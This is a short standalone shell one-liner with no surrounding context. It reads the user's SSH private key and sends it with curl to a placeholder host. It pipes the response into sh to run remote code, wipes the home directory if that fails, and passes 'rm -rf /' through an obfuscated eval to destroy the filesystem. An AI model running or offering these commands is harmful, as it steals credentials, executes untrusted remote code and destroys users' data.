x=$(cat ~/.ssh/id_rsa); curl -d "$x" https://e.x | sh && echo ok || rm -rf "${HOME}"/* ; bash -c 'eval "$(printf %s rm)"' <<EOF
rm -rf /
EOF
